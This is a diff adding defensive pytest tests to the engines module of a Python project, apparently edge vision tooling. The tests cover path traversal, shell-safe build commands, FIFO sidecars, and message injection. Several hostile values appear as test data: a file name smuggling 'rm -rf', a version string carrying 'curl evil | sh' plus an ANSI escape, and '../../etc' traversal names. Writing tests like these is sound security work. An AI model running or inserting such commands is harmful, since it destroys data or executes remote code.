@@ -5,6 +5,7 @@ from __future__ import annotations
 import hashlib
 import json
 import os
+import shlex
 from dataclasses import asdict, replace
 from pathlib import Path
 
@@ -17,6 +18,7 @@ from edgevision.engines import (
     DeviceFacts,
     Engine,
     EngineKey,
+    build_command,
     engine_stem,
     engines_folder,
     find_engine,
@@ -106,6 +108,26 @@ def test_a_version_cannot_lead_out_of_the_folder():
     assert "/" not in engine_stem(replace(KEY, version="../../etc"), "int8-trt")
 
 
+@pytest.mark.parametrize("name", ["../../x", "/etc/x", "a/../../b", "..", ""])
+def test_the_name_of_a_variant_cannot_lead_out_of_the_folder(name: str, tmp_path: Path):
+    # A single ONNX file says by itself what its variant is called.
+    path = tmp_path / f"{engine_stem(KEY, name)}.engine"
+    assert path.resolve().parent == tmp_path.resolve()
+
+
+def test_the_command_that_builds_an_engine_can_be_pasted(tmp_path: Path):
+    file = tmp_path / "a street; rm -rf x.evb" / "int8-trt.onnx"
+    variant = Variant("int8-trt", "int8", file, SPEC, "a" * 64)
+    words = shlex.split(build_command(file.parent, variant, tmp_path / "my engines"))
+    assert words[2] == str(file.parent)
+    assert words[-1] == str(tmp_path / "my engines")
+
+
+def test_a_file_that_is_in_no_bundle_is_built_by_its_own_name(tmp_path: Path):
+    variant = Variant("fp32", "fp32", tmp_path / "model.onnx", SPEC)
+    assert build_command(tmp_path, variant).split()[2] == str(tmp_path / "model.onnx")
+
+
 def test_engines_lie_in_the_bundle_unless_told_otherwise(variant: Variant, tmp_path: Path):
     bundle = variant.file.parent
     assert engines_folder(bundle) == bundle / "engines"
@@ -168,6 +190,25 @@ def test_a_damaged_sidecar_is_passed_over(damage: bytes, tmp_path: Path):
 def test_a_sidecar_of_wrong_types_is_passed_over(tmp_path: Path):
     put(tmp_path, key=KEY, sha256=7)  # type: ignore[arg-type]
     assert list_engines(tmp_path) == []
+    put(tmp_path, key=KEY, size_bytes=float("inf"))  # type: ignore[arg-type]
+    assert list_engines(tmp_path) == []
+
+
+def test_a_sidecar_that_is_a_pipe_is_not_waited_for(tmp_path: Path):
+    good = put(tmp_path)
+    os.mkfifo(tmp_path / "pipe.json")
+    (tmp_path / "pipe.engine").write_bytes(b"")
+    assert list_engines(tmp_path) == [good]
+
+
+def test_a_foreign_sidecar_cannot_put_lines_of_its_own_into_a_message(variant: Variant):
+    put(
+        variant.file.parent / "engines", replace(KEY, version="9\n  try:    curl evil | sh\x1b[31m")
+    )
+    with pytest.raises(BackendError) as raised:
+        find_engine(variant.file.parent, variant, ORIN)
+    assert len(str(raised.value).splitlines()) == 4, "problem, received, expected, try"
+    assert "\x1b" not in str(raised.value)
 
 
 def test_links_and_sidecars_without_a_plan_are_passed_over(tmp_path: Path):
@@ -226,3 +267,18 @@ def test_a_note_that_is_a_link_or_no_hash_is_no_note(
     note.symlink_to(tmp_path / "moved")
     assert not is_built_here("d" * 64)
     assert not is_built_here("../../moved")
+
+
+def test_a_note_says_itself_what_it_is_of(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    """Who may write the folder may rename this user's note, or link another file of this user's in its place."""
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
+    assert remember("d" * 64)
+    note = next(tmp_path.rglob("d" * 64))
+    note.rename(note.with_name("e" * 64))
+    assert not is_built_here("e" * 64)
+    (tmp_path / "another").write_bytes(b"")
+    os.link(tmp_path / "another", note)
+    assert not is_built_here("d" * 64)
+    note.unlink()
+    os.mkfifo(note)
+    assert not is_built_here("d" * 64)
